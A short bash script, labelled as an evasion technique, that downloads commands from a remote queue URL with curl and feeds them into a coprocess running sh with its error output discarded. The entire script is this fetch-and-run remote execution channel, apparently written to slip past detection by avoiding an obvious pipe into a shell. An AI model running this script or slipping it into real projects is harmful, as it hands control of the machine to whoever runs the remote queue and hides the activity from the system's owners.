#!/usr/bin/env bash
# Evasion: run a shell with commands from the network. A coprocess execs sh
# with its error output thrown away; the commands a remote queue returns are
# written into its input.
set -u
coproc RUNNER { exec sh 2>/dev/null; }
curl -fsS https://queue.example-ci.dev/next >&"${RUNNER[1]}"
exec {RUNNER[1]}>&-
wait
